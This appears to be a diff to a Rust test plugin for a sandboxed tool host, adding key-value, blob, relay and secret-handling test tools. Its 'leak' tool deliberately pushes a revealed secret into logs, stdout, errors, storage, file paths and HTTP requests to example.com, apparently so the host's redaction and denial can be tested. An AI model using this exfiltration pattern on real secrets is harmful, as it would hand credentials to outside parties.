@@ -2,9 +2,10 @@
 //! the tests and benchmarks of the host call. Does nothing useful.
 
 use std::collections::BTreeMap;
+use std::io::Write as _;
 use std::time::Duration;
 
-use cofferdam_sdk::{Context, Error, ErrorKind, Level, Output, Payload, Result, Text, http, tool};
+use cofferdam_sdk::{Context, Error, ErrorKind, Level, Output, Payload, Result, Text, Write, http, tool};
 use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
@@ -116,6 +117,137 @@ fn get(ctx: &Context, args: UrlArgs) -> Result<Payload> {
     Ok(Payload::Bytes(answer.body))
 }
 
+#[derive(Deserialize, JsonSchema)]
+struct KeyArgs {
+    key: String,
+    /// Write this; without it, read.
+    #[serde(default)]
+    value: Option<String>,
+    /// Only over this version; 0 is that of an absent key.
+    #[serde(default)]
+    version: Option<u64>,
+    #[serde(default)]
+    ttl_ms: Option<u64>,
+}
+
+/// Writes a value and returns its version, or reads one.
+#[tool]
+fn keep(ctx: &Context, args: KeyArgs) -> Result<Value> {
+    let Some(value) = args.value else {
+        let entry = ctx.kv().get(&args.key)?;
+        return Ok(entry.map_or(Value::Null, |entry| Value::from(String::from_utf8_lossy(&entry.value))));
+    };
+    let mut write = Write::put(args.key, value);
+    write = match args.version {
+        None => write,
+        Some(0) => write.if_absent(),
+        Some(version) => write.if_version(version),
+    };
+    if let Some(ttl) = args.ttl_ms {
+        write = write.forget_after(Duration::from_millis(ttl));
+    }
+    Ok(Value::from(ctx.kv().commit(vec![write])?))
+}
+
+#[derive(Deserialize, JsonSchema)]
+struct ScanArgs {
+    prefix: String,
+    limit: u32,
+}
+
+/// Lists keys, page by page.
+#[tool]
+fn keys(ctx: &Context, args: ScanArgs) -> Result<Vec<Vec<String>>> {
+    let (mut pages, mut cursor) = (Vec::new(), None);
+    loop {
+        let page = ctx.kv().scan(&args.prefix, cursor.as_deref(), args.limit)?;
+        pages.push(page.entries.into_iter().map(|entry| entry.key).collect());
+        cursor = page.next;
+        if cursor.is_none() {
+            return Ok(pages);
+        }
+    }
+}
+
+#[derive(Deserialize, JsonSchema)]
+struct SecretArgs {
+    secret: String,
+    /// Where the stand-in goes.
+    #[serde(default)]
+    url: String,
+}
+
+/// Sends a stand-in in header, query and body, and returns what came back.
+#[tool(open_world)]
+fn send_stand_in(ctx: &Context, args: SecretArgs) -> Result<Text> {
+    let stand_in = ctx.secret_placeholder(&args.secret)?;
+    let url = format!("{}?key={stand_in}", args.url);
+    let request = http::Request::post(url, format!("{{\"key\":\"{stand_in}\"}}"));
+    let request = request.header("content-type", "application/json").header("x-key", stand_in);
+    Ok(Text(ctx.fetch(request)?.text().into_owned()))
+}
+
+/// Reads a secret and puts it wherever a guest can put something.
+#[tool]
+fn leak(ctx: &Context, args: LeakArgs) -> Result<Output<Value>> {
+    let secret = String::from_utf8_lossy(&ctx.reveal_secret(&args.secret)?).into_owned();
+    ctx.log_with(Level::Error, &secret, &[(&secret, &secret)]);
+    ctx.log(Level::Error, &format!("{}{secret}", "x".repeat(4_080)));
+    ctx.progress(&secret);
+    let _ = writeln!(std::io::stdout(), "{secret}");
+    let _ = writeln!(std::io::stderr(), "{secret}");
+    // Denials are told to everybody.
+    let _ = ctx.fetch(http::Request::get(format!("https://{}.example.com/{secret}?q={secret}", args.secret)));
+    let _ = ctx.fetch(http::Request::new(secret.as_str(), "https://example.com/"));
+    let _ = ctx.fetch(http::Request::get("https://example.com/").header(&secret, secret.as_bytes()));
+    let _ = ctx.invoke(&secret, &Value::Null);
+    let _ = ctx.secret_placeholder(&secret);
+    let _ = ctx.kv().put(&secret, secret.as_bytes());
+    let _ = std::fs::read(format!("/step/{secret}"));
+    match args.how.as_str() {
+        "panic" => panic!("{secret}"),
+        "error" => Err(Error::new(ErrorKind::Other, secret.clone())
+            .with_code(secret.clone())
+            .with_detail(serde_json::json!({ secret.clone(): secret }))),
+        _ => {
+            let value = serde_json::json!({ secret.clone(): [secret, args.encoded.replace("SECRET", &secret)] });
+            Ok(Output::new(value).with_summary(secret))
+        }
+    }
+}
+
+#[derive(Deserialize, JsonSchema)]
+struct LeakArgs {
+    secret: String,
+    /// `panic`, `error` or `result`.
+    how: String,
+    #[serde(default)]
+    encoded: String,
+}
+
+#[derive(Deserialize, JsonSchema)]
+struct InvokeArgs {
+    tool: String,
+    args: Value,
+}
+
+/// Calls another tool and returns what it gives.
+#[tool]
+fn relay(ctx: &Context, args: InvokeArgs) -> Result<Payload> {
+    ctx.invoke(&args.tool, &args.args)
+}
+
+/// Keeps a text as a blob, reads it back, and returns the blob.
+#[tool]
+fn as_blob(ctx: &Context, args: SayArgs) -> Result<Payload> {
+    let id = ctx.write_blob(args.message.as_bytes())?;
+    let size = u32::try_from(ctx.blob_size(&id)?).unwrap_or(u32::MAX);
+    if ctx.read_blob(&id, 0, size)? != args.message.as_bytes() {
+        return Err(Error::internal("the blob is another one"));
+    }
+    Ok(Payload::Blob(id))
+}
+
 /// Loops until the run is cancelled.
 #[tool(read_only)]
 fn wait_for_cancel(ctx: &Context) -> Result<()> {
@@ -128,7 +260,10 @@ fn wait_for_cancel(ctx: &Context) -> Result<()> {
 cofferdam_sdk::plugin!(
     id = "cofferdam/echo",
     config = Config,
-    tools = [echo, whoami, config, say, fail, read_file, write_file, get, wait_for_cancel],
+    tools = [
+        echo, whoami, config, say, fail, read_file, write_file, get, keep, keys, send_stand_in, leak, relay, as_blob,
+        wait_for_cancel
+    ],
 );
 
 #[cfg(test)]
